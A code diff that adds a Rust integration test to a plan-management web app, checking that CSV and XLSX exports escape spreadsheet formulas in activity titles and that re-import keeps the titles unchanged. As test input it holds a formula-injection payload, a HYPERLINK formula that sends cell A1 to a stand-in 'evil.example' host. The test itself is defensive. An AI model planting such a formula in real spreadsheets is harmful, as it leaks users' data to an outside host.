@@ -384,3 +384,106 @@ async fn the_xlsx_export_lists_every_target_occurrence() {
         StatusCode::FORBIDDEN
     );
 }
+
+/// The finding: a title such as `=HYPERLINK(…)` went raw into the CSV,
+/// where a spreadsheet program runs it. Now every such cell starts with an
+/// apostrophe, the XLSX keeps it as text, and import takes exactly that
+/// apostrophe away again, so nothing changes on the way round.
+#[tokio::test]
+async fn formulas_in_titles_never_run_and_survive_the_round_trip() {
+    let (app, mut sec, nap) = plan_setup().await;
+    let hostile = [
+        (
+            "1.1.1",
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+            "+1 on the campaign",
+        ),
+        ("1.1.2", "-5 days of training", "@inspectors of the north"),
+        ("1.1.3", "'=kept apostrophe", "'quoted on purpose"),
+    ];
+    for (code, title, description) in hostile {
+        let res = add_activity(
+            &mut sec,
+            nap,
+            &[
+                ("outcome", "1.1"),
+                ("code", code),
+                ("title", title),
+                ("description", description),
+            ],
+        )
+        .await;
+        assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
+    }
+    let csv = sec
+        .get_bytes(&format!("/t/aland/naps/{nap}/export.csv"))
+        .await;
+    let mut cells = csv::ReaderBuilder::new()
+        .has_headers(true)
+        .from_reader(&csv[..]);
+    let mut written: Vec<String> = Vec::new();
+    for record in cells.records() {
+        let record = record.unwrap();
+        written.extend([record[5].to_owned(), record[6].to_owned()]);
+    }
+    for cell in &written {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell:?}"
+        );
+    }
+    assert!(written.contains(&"'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")".to_owned()));
+    assert!(written.contains(&"''=kept apostrophe".to_owned()));
+    // XLSX cells are text, never formulas.
+    let xlsx = sec
+        .get_bytes(&format!("/t/aland/naps/{nap}/export.xlsx"))
+        .await;
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(xlsx.clone())).unwrap();
+    let mut sheet = String::new();
+    std::io::Read::read_to_string(
+        &mut archive.by_name("xl/worksheets/sheet1.xml").unwrap(),
+        &mut sheet,
+    )
+    .unwrap();
+    assert!(!sheet.contains("<f>"), "no formula in the workbook");
+
+    // Both files import into a new plan with every title as it was typed.
+    for (extension, bytes) in [("csv", &csv), ("xlsx", &xlsx)] {
+        let res = sec
+            .submit(
+                "/t/aland/naps/new",
+                "/t/aland/naps/new",
+                &[
+                    ("title", &format!("Copy {extension}")),
+                    ("theme", "forced-labour"),
+                    ("start_year", "2025"),
+                    ("end_year", "2029"),
+                    ("status", "draft"),
+                ],
+            )
+            .await;
+        let copy: i64 = res.location().rsplit('/').next().unwrap().parse().unwrap();
+        let preview = import(&mut sec, copy, &format!("plan.{extension}"), bytes).await;
+        assert_eq!(preview.status, StatusCode::OK, "{:?}", problems(&preview));
+        assert_eq!(
+            confirm(&mut sec, copy, &preview).await.status,
+            StatusCode::SEE_OTHER
+        );
+        for (code, title, description) in hostile {
+            let mut conn = app.owner_conn().await;
+            let (t, d): (String, String) = sqlx::query_as(
+                "select title, description from activities where nap_id = $1 and code = $2",
+            )
+            .bind(copy)
+            .bind(code)
+            .fetch_one(&mut conn)
+            .await
+            .unwrap();
+            assert_eq!(
+                (t.as_str(), d.as_str()),
+                (title, description),
+                "{extension} {code}"
+            );
+        }
+    }
+}
